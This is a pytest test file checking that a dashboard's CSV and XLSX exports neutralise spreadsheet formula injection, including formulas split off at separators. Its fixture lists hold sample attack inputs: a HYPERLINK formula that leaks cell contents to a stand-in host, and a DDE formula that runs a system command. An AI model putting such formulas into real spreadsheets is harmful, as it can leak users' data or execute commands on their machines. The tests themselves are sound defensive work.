"""Exports never hand a spreadsheet a formula to run (OWASP CSV injection): text starting with =, +, -, @, tab or
carriage return — or holding one after a «;», «,», tab or line break, where a spreadsheet splitting on it starts a new
cell — is neutralised in CSV and written as plain text in XLSX."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import polars as pl
import pytest
import python_calamine as pc

from dashboard import export
from etl.settings import INTERNAL_MARK

DANGEROUS = [
    '=HYPERLINK("http://x.example/?d="&A1,"bấm")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
# A formula start inside the text, after what a spreadsheet may split a CSV line on (issue 29.9): Excel with a
# Vietnamese list separator splits on «;», ignoring the quotes of a «,»-separated file.
SPLIT = [
    'Chi bộ A;=HYPERLINK("http://x.example/?d="&A1;"bấm")',
    "x;=1+1;",
    "Tổ 3; @SUM(A1:A9)",
    "b,+1",
    "c\n=1+1",
    "d;\t-2+3",
    "e\r\n=cmd|' /C calc'!A0",
    'f;"=1+1"',  # Excel runs a quoted formula of a CSV too
]
SAFE = ["Chi bộ xóm Nà Phìa", "Đảng bộ (Thục Phán)", "1 + 1", "a=b", "e-mail", "", "'=đã trích"]
COLS = [export.Col("name", "Tên"), export.Col("members", "Đảng viên", "int"), export.Col("value", "Tỉ lệ (%)", "pct")]


_PIECE = re.compile(r"[;,\t\r\n]")


def _pieces(text: str) -> list[str]:
    """The cells a spreadsheet splitting on any of «;», «,», tab or line break makes of a text, leading spaces
    dropped (LibreOffice may trim them) and an opening quote too."""
    return [p.lstrip(' \t"') for p in _PIECE.split(text)]


def _runs(cell: str) -> bool:
    return cell.startswith(("=", "+", "@")) or (cell.startswith("-") and not _number(cell))


@pytest.mark.parametrize("text", DANGEROUS)
def test_neutralise_prefixes_formula_starts(text):
    out = export.neutralise(text)
    assert out.startswith("'") and out.replace("'", "") == text.replace("'", "")
    assert not any(_runs(p) for p in _pieces(out)), out


@pytest.mark.parametrize("text", SPLIT)
def test_neutralise_covers_every_piece_a_spreadsheet_may_split_off(text):
    """«x;=1+1» split on «;» is the cells «x» and «=1+1»: the second must not run either."""
    assert any(_runs(p) for p in _pieces(text))  # the attack: one piece would run
    out = export.neutralise(text)
    assert not any(_runs(p) for p in _pieces(out)), out
    assert out.replace("'", "") == text.replace("'", "")  # only apostrophes added: the text reads as typed


@pytest.mark.parametrize("value", [*SAFE, 0, -5, 3.25, -0.5, None, True])
def test_neutralise_leaves_other_values(value):
    assert export.neutralise(value) == value


def _frame(names: list[str]) -> pl.DataFrame:
    return pl.DataFrame({"name": names, "members": [-3 + i for i in range(len(names))], "value": [12.5] * len(names)})


def test_csv_bytes_neutralised():
    names = DANGEROUS + SAFE
    raw = export.table_csv(_frame(names), COLS)
    assert raw.startswith("\ufeff".encode("utf-8"))  # BOM: Excel shows the diacritics
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Tên", "Đảng viên", "Tỉ lệ (%)"]
    got = [r[0] for r in rows[1:]]
    assert got == [export.neutralise(n) for n in DANGEROUS] + SAFE
    assert all(g.startswith("'") for g in got[: len(DANGEROUS)])
    # numbers are numbers, negative ones included: only text is neutralised
    assert [r[1] for r in rows[1:]] == [str(-3 + i) for i in range(len(names))]
    # no cell of the CSV starts a formula
    for r in rows[1:]:
        for cell in r:
            assert not (cell.startswith(("=", "+", "@", "\t", "\r")) or (cell.startswith("-") and not _number(cell)))


def _number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def _sheet_xml(xlsx: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_csv_split_on_semicolons_runs_no_formula():
    """The CSV as Excel with «;» as list separator reads it: each line cut at every «;» (quotes or not)."""
    raw = export.table_csv(_frame(SPLIT + SAFE), COLS, ["Bộ lọc: xã A;=1+1"]).decode("utf-8-sig")
    for sep in (";", ",", "\t"):
        for line in raw.splitlines():
            for cell in line.split(sep):
                cell = cell.strip(' \t"')
                assert not _runs(cell), (sep, line)
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    header = rows.index(["Tên", "Đảng viên", "Tỉ lệ (%)"])
    assert [r[0].replace("'", "") for r in rows[header + 1 :]] == [n.replace("'", "") for n in SPLIT + SAFE]


def test_xlsx_writes_text_not_formulas():
    names = DANGEROUS + SPLIT + SAFE
    xlsx = export.table_xlsx(_frame(names), COLS, "Thử", "năm 2025; toàn tỉnh", "nguồn thử")
    assert "<f>" not in _sheet_xml(xlsx) and "<f " not in _sheet_xml(xlsx)
    rows = pc.CalamineWorkbook.from_filelike(io.BytesIO(xlsx)).get_sheet_by_name("Số liệu").to_python()
    flat = [v for r in rows for v in r]
    assert INTERNAL_MARK in flat
    header = next(i for i, r in enumerate(rows) if r[:1] == ["Tên"])
    got = [r[0] for r in rows[header + 1 :]]
    # plain strings, exactly as loaded (the XLSX cell type already makes them inert); "\r" is stored as
    # "_x000D_"-escaped text by the format and read back as a carriage return
    assert got == [n if n else "" for n in names]
    assert all(isinstance(v, str) for v in got)


def test_bieu_workbook_writes_no_formulas():
    """The official tables are numbers and fixed labels; still, nothing in them may be a formula."""
    empty = {
        t: pl.DataFrame({"year": [], "unit_code": []}, schema={"year": pl.Int64, "unit_code": pl.String})
        for t in ("tbl_bieu05", "tbl_bieu06", "int_unit_reported")
    }
    counts = [export.MEETING_BRANCHES[0], *[c for _, g in export.MEETING_GROUPS[:-1] for c, _ in g]]
    # a unit whose name is not known is shown by its code: one that reads as a formula stays text
    meetings = pl.DataFrame(
        {"year": [2025], "unit_code": ["=2+2"], **{c: [1] for c in counts}, "materials_months": [None]},
        schema_overrides={"materials_months": pl.Int64},
    ).with_columns(thematic_orientation=pl.lit(True))
    tables = {
        "tbl_bieu01": pl.DataFrame(
            schema={"year": pl.Int64, "level_code": pl.String, "type_code": pl.String, "count": pl.Int64}
        ),
        "tbl_bieu02": pl.DataFrame(
            schema={
                "year": pl.Int64,
                "level_code": pl.String,
                "type_code": pl.String,
                "role_code": pl.String,
                "total": pl.Int64,
                **{c: pl.Int64 for _, g in export.B02_GROUPS for c, _ in g},
            }
        ),
        "tbl_bieu03": pl.DataFrame(
            schema={"year": pl.Int64, "level_code": pl.String, **{m: pl.Int64 for m, _ in export.B03_MEASURES}}
        ),
        "tbl_grassroots": pl.DataFrame(
            schema={"year": pl.Int64, "org_kind": pl.String, **{m: pl.Int64 for m, _ in export.B03_MEASURES}}
        ),
        "tbl_bieu04": pl.DataFrame(
            schema={
                "year": pl.Int64,
                "level_code": pl.String,
                "type_code": pl.String,
                **{m: pl.Int64 for m, _ in export.B04_MEASURES},
            }
        ),
        "tbl_bieu07": pl.DataFrame(schema={"year": pl.Int64, **{m: pl.Int64 for m, _ in export.B07_MEASURES}}),
        "tbl_meetings": meetings,
        **empty,
    }
    xlsx = export.bieu_xlsx(tables, 2025, "Cao Bằng", "=1+1", {}, is_sample=True)
    xml = _sheet_xml(xlsx)
    assert "<f>" not in xml and "<f " not in xml
    wb = pc.CalamineWorkbook.from_filelike(io.BytesIO(xlsx))
    assert wb.sheet_names == export.BIEU_SHEETS
    cells = [v for r in wb.get_sheet_by_name("Biểu 01").to_python() for v in r]
    assert INTERNAL_MARK in cells
    assert any(isinstance(v, str) and v.startswith("Phạm vi: =1+1") for v in cells)
    assert "=2+2" in [v for r in wb.get_sheet_by_name(export.MEETING_SHEET).to_python() for v in r]
